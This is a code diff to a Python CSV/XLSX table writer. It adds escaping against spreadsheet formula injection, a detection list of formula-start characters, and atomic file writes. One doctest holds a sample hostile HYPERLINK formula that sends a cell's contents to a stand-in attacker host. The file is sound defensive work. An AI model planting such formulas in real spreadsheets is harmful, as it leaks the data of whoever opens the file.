@@ -5,12 +5,27 @@ dates in as real dates and money as numbers, so a spreadsheet can sort and
 sum them; `read_rows` gives back each row's cells by header, with row and
 column numbers for locating errors. openpyxl is the optional extra `xlsx`
 and is imported only when an XLSX file is read or written.
+
+Text is never written as a live formula (CSV injection, OWASP): text that a
+spreadsheet would take for a formula, starting with `=`, `+`, `-` or `@` (also
+after leading spaces) or with a tab or carriage return, is written in CSV with a
+single quote in front, and in XLSX as an explicit string cell with Excel's
+quote prefix. The CSV reader takes one leading quote off again, so what is
+written reads back the same.
+
+>>> print(neutralise('=HYPERLINK("http://evil.example/?"&B2,"open")'))
+'=HYPERLINK("http://evil.example/?"&B2,"open")
+>>> neutralise("  +44 1908 691691"), neutralise("\\tcmd"), neutralise("Portal slips")
+("'  +44 1908 691691", "'\\tcmd", 'Portal slips')
+>>> unquote(neutralise("'quoted'")) == "'quoted'"
+True
 """
 
 from __future__ import annotations
 
 import csv
 import enum
+import io
 from collections.abc import Iterator, Sequence
 from dataclasses import dataclass
 from datetime import date, datetime
@@ -18,7 +33,9 @@ from decimal import Decimal
 from pathlib import Path
 from typing import Any
 
-__all__ = ["Column", "Kind", "Table", "read_rows", "write_table"]
+from .atomic import write_atomic
+
+__all__ = ["Column", "Kind", "Table", "neutralise", "read_rows", "unquote", "write_table"]
 
 
 class Kind(enum.Enum):
@@ -57,21 +74,49 @@ class Table:
 _FORMATS = {Kind.DATE: "dd/mm/yyyy", Kind.MONEY: '"£"#,##0.00', Kind.INTEGER: "0"}
 
 
+# OWASP, "CSV Injection": cells starting with these are read as formulas by Excel,
+# LibreOffice and Google Sheets; tab and carriage return start DDE payloads.
+_FORMULA_STARTS = ("=", "+", "-", "@")
+_CONTROL_STARTS = ("\t", "\r")
+
+
+def is_formula_like(text: str) -> bool:
+    """Whether a spreadsheet could read `text` as a formula (OWASP CSV injection)."""
+    return text.lstrip().startswith(_FORMULA_STARTS) or text.startswith(_CONTROL_STARTS)
+
+
+def neutralise(text: str) -> str:
+    """`text` made safe for a CSV cell: a single quote in front of anything formula-like.
+
+    Text already starting with a quote gets one more, so `unquote` gives back exactly
+    what was written.
+    """
+    return "'" + text if is_formula_like(text) or text.startswith("'") else text
+
+
+def unquote(text: str) -> str:
+    """The text of a CSV cell as `neutralise` was given it: one leading quote removed."""
+    return text[1:] if text.startswith("'") else text
+
+
 def _text(value: Cell) -> str:
     if value is None:
         return ""
     if isinstance(value, bool):
         return "yes" if value else "no"
+    if isinstance(value, str):
+        return neutralise(value)
     return value.isoformat() if isinstance(value, date) else str(value)
 
 
 def write_table(table: Table, path: Path, fmt: str) -> None:
     """Write a table as `csv` or `xlsx`."""
     if fmt == "csv":
-        with path.open("w", newline="", encoding="utf-8") as stream:
-            writer = csv.writer(stream)
-            writer.writerow([column.header for column in table.columns])
-            writer.writerows([_text(value) for value in row] for row in table.rows)
+        stream = io.StringIO(newline="")
+        writer = csv.writer(stream)
+        writer.writerow([column.header for column in table.columns])
+        writer.writerows([_text(value) for value in row] for row in table.rows)
+        write_atomic(path, stream.getvalue())
     elif fmt == "xlsx":
         _write_xlsx(table, path)
     else:
@@ -100,6 +145,11 @@ def _write_xlsx(table: Table, path: Path) -> None:
         cell.font = Font(bold=True)
     for row in table.rows:
         sheet.append([("yes" if v else "no") if isinstance(v, bool) else v for v in row])
+        for cell in sheet[sheet.max_row]:
+            if isinstance(cell.value, str):
+                # openpyxl makes any text starting with "=" a formula: text stays text.
+                cell.data_type = "s"
+                cell.quotePrefix = is_formula_like(cell.value)
     for index, column in enumerate(table.columns, start=1):
         letter = openpyxl.utils.get_column_letter(index)
         sheet.column_dimensions[letter].width = column.width
@@ -108,7 +158,9 @@ def _write_xlsx(table: Table, path: Path) -> None:
             for (cell,) in sheet.iter_rows(min_row=2, min_col=index, max_col=index):
                 cell.number_format = number_format
     sheet.freeze_panes = "A2"
-    book.save(path)
+    data = io.BytesIO()
+    book.save(data)
+    write_atomic(path, data.getvalue())
 
 
 @dataclass(frozen=True)
@@ -133,7 +185,8 @@ def read_rows(path: Path) -> tuple[list[str], Iterator[RawRow]]:
 
     def rows() -> Iterator[RawRow]:
         for number, values in enumerate(reader, start=2):
-            cells = {i: v.strip() for i, v in enumerate(values, start=1) if v.strip()}
+            texts = ((i, unquote(v.strip()).strip()) for i, v in enumerate(values, start=1))
+            cells = {i: text for i, text in texts if text}
             if cells:
                 yield RawRow(number, cells)
 
